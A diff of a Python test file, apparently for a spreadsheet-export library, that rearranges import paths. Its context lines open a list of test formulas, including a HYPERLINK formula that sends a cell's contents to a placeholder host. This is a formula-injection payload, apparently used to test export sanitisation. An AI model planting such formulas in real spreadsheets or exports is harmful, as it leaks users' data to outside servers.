@@ -6,10 +6,10 @@ import io
 import pandas as pd
 import pytest
 
-from blanketflow.artefacts import Provenance
-from blanketflow.collect import write_table
 from blanketflow.core.spreadsheets import FORMULA_SIGNS
-from blanketflow.exports import Blanket
+from blanketflow.data.artefacts import Provenance
+from blanketflow.reporting.export import Blanket
+from blanketflow.workflow.collect import write_table
 
 FORMULAS = [
     '=HYPERLINK("http://host/?"&A1,"x")',
